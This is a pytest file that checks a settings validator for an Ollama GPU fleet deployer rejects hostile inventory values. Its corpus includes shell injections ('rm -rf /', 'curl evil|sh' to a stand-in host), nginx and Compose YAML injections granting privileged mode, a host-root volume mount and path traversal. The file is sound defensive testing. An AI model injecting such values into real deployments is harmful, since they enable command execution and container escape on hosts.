"""Hostile or malformed inventory values: each is refused with `host: key: problem` before
anything runs. Every value here once reached a shell, a Compose file, an nginx config or a
crash (or would have); tests/lab/test_deploy.py runs the same corpus against lab hosts and
checks on the hosts that none of them was touched."""

from __future__ import annotations

import pytest

from ollama_fleet.tasks.kit.settings import SettingsError, settings_for

INJECT = "$(touch /tmp/pwned)"
NGINX_BLOCK = "127.0.0.1:80; } server { listen 8080; root /etc; autoindex on; } #"
YAML_ESCAPE = "5m\n    privileged: true\n    pid: host"

# (knob, value): each alone on an otherwise valid GPU host must be refused naming the knob.
HOSTILE: list[tuple[str, object]] = [
    ("ollama_bind_address", NGINX_BLOCK),
    ("ollama_bind_address", "0.0.0.0 ; rm -rf /"),
    ("ollama_bind_address", "localhost"),
    ("ollama_bind_address", "１２７.0.0.1"),  # fullwidth digits
    ("ollama_keep_alive", YAML_ESCAPE),
    ("ollama_keep_alive", "5m'"),
    ("ollama_keep_alive", "forever"),
    ("ollama_environment", {"OLLAMA_DEBUG": "1\n    privileged: true"}),
    ("ollama_environment", {"BAD KEY": "1"}),
    ("ollama_environment", {"X": "a\x00b"}),
    ("ollama_environment", {"OLLAMA_HOST": "0.0.0.0:1"}),
    ("ollama_environment", {"Х": "cyrillic key"}),
    ("ollama_models", ["a/b/c/d"]),
    ("ollama_models", [f"tinyllama{INJECT}"]),
    ("ollama_models", ["tinyllama;reboot"]),
    ("ollama_models", ["../../etc/passwd"]),
    ("ollama_models", ["llama3.2:"]),
    ("ollama_models", ["ⅼlama3.2"]),  # small roman numeral fifty, not an l
    ("ollama_models", ["model\nname"]),
    ("ollama_models", ["-rf"]),
    ("ollama_registry", f"https://registry.example{INJECT}"),
    ("ollama_registry", "https://a.example/x y"),
    ("ollama_registry", "ftp://registry.example"),
    ("ollama_registry", "http://registry.example"),  # plain http without fleet_insecure_http
    ("ollama_registry", "https://registry.example/`id`"),
    ("docker_repo_url", "https://download.docker.com/linux\ndeb http://evil.example/ x main"),
    ("docker_registry_mirrors", ["https://mirror.example'; curl evil|sh; '"]),
    # each passes `dockerd --validate` and then stops dockerd at its start (Docker 26)
    ("docker_registry_mirrors", ["https://mirror.example/a%zz"]),
    ("docker_registry_mirrors", ["https://user:secret@mirror.example"]),
    ("docker_registry_mirrors", ["https://mirror.example/?x=1"]),
    ("docker_registry_mirrors", ["https://mirror.example:99999"]),
    ("nvidia_toolkit_repo_url", "https://nvidia.github.io/libnvidia-container/{distro}"),
    ("nvidia_driver_gpgkey_url", "https://example.com/key.pub && reboot"),
    ("nvidia_toolkit_version", "1.17.8-1 nvidia-container-toolkit=9"),
    ("ollama_models_path", "/srv/../etc"),
    ("ollama_models_path", "relative/models"),
    ("ollama_models_path", "/srv/models dir"),
    ("ollama_stack_dir", "/opt/ollama;rm -rf /"),
    ("front_door_dir", "/opt/front/.."),
    ("ollama_memory_limit", "1g\n    network_mode: host"),
    ("ollama_image", "ollama/ollama:0.6.8\n    privileged: true"),
    ("ollama_image", "ollama/ollama:latest$(id)"),
    ("nginx_image", "nginx:1.27 --privileged"),
    ("nginx_timeout", "600s; return 200"),
    ("nginx_max_body", "100m; autoindex on"),
    ("nginx_rate_limit", "10r/s zone=x"),
    ("nvidia_exporter_listen", "0.0.0.0:9400\nprivileged: true"),
    ("nvidia_exporter_listen", "exporter.example:9400"),
    ("nginx_allow", ["10.0.0.0/8; allow all"]),
    ("ollama_fanout_allow", ["0.0.0.0/0 all"]),
    ("app_cache_memory", "256mb\nappendonly no"),
    ("app_cache_policy", "allkeys-lru --protected-mode no"),
    ("nginx_tls_cert", "/etc/cert.pem\nssl_certificate /etc/shadow"),
    ("nginx_api_keys", {"env": "KEYS; id"}),
    ("app_services", {"web": {"image": "acme/web:1",
                              "memory_limit": "1g\n    network_mode: host"}}),
    ("app_services", {"web": {"image": "acme/web:1", "ollama_model": f"x{INJECT}"}}),
    ("app_services", {"web": {"image": "acme/web:1", "environment": {"A B": "1"}}}),
    ("app_services", {"web": {"image": "acme/web:1", "environment": {"A": "1\nB: 2"}}}),
    ("app_services", {"web": {"image": "acme/web:1", "volumes": ["/:/host"]}}),
    ("app_services", {"web": {"image": "acme/web:1", "volumes": ["/srv/../etc:/x"]}}),
    ("app_services", {"web": {"image": "acme/web:1", "ports": ["999999:80"]}}),
    ("app_services", {"web": {"image": "acme/web:1", "ports": ["0.0.0.0.0:80:80"]}}),
    ("app_services", {"web": {"image": "acme/web:1", "command": ["sh", "-c", "a\nb"]}}),
    ("app_services", {"web": {"image": "acme/web:1", "depends_on": ["db; id"]}}),
    ("app_services", {"Web Server": {"image": "acme/web:1"}}),
    ("app_services", {"web": {"image": "acme/web:1", "cpus": -1}}),
    ("app_services", {"web": {"image": "acme/web:1", "secrets": {"T": {"env": "$(id)"}}}}),
]


def _ids() -> list[str]:
    seen: dict[str, int] = {}
    ids = []
    for key, _ in HOSTILE:
        seen[key] = seen.get(key, 0) + 1
        ids.append(f"{key}-{seen[key]}")
    return ids


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("key, value", HOSTILE, ids=_ids())
def test_each_hostile_value_is_refused_naming_host_and_key(key, value):
    with pytest.raises(SettingsError) as exc:
        settings_for("gpu-1", {"gpu_count": 1, key: value})
    assert len(exc.value.problems) == 1, exc.value.problems
    line = exc.value.problems[0]
    assert line.startswith(f"gpu-1: {key}"), line
    assert "\n" not in line


@pytest.mark.parametrize("key, value", [
    ("ollama_bind_address", "::"),
    ("ollama_bind_address", "10.1.2.3"),
    ("ollama_keep_alive", "-1"),
    ("ollama_keep_alive", "1h30m"),
    ("ollama_models", ["hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M",
                       "registry.ollama.ai/library/llama3.2:1b", "user/model"]),
    ("ollama_registry", "https://registry.example:8443/mirror"),
    ("ollama_models_path", "/srv/ollama-models"),
    ("ollama_environment", {"OLLAMA_FLASH_ATTENTION": "1", "HTTPS_PROXY": "http://p:3128"}),
    ("app_services", {"web": {"image": "ghcr.io/acme/web:1.4.2", "volumes": ["data:/data"],
                              "environment": {"PRICE": "$5"}, "memory_limit": "2g"}}),
    ("nvidia_exporter_listen", "[::1]:9400"),
])
def test_ordinary_values_still_pass(key, value):
    settings_for("gpu-1", {"gpu_count": 1, key: value})


def test_plain_http_is_for_operators_who_say_so():
    settings_for("gpu-1", {"ollama_registry": "http://10.0.0.9:8081",
                           "fleet_insecure_http": True})


def test_many_hostile_values_at_once_are_each_named():
    """As the lab test sends them: several on one host at a time. A check that only runs
    once a host's other values are valid would hide some of them."""
    from ollama_fleet.tasks.kit.settings import validate_fleet
    from tests.lab.test_hostile_inventory import rounds

    hosts = ["gpu-1", "gpu-2", "cpu-1"]
    for run in rounds(hosts):
        data = {h: {"gpu_count": 0 if h == "cpu-1" else 1, **run.get(h, {})} for h in hosts}
        with pytest.raises(SettingsError) as exc:
            validate_fleet(data, hosts, [])
        for host, keys in run.items():
            for key in keys:
                assert any(p.startswith(f"{host}: {key}") for p in exc.value.problems), (
                    host, key, exc.value.problems)
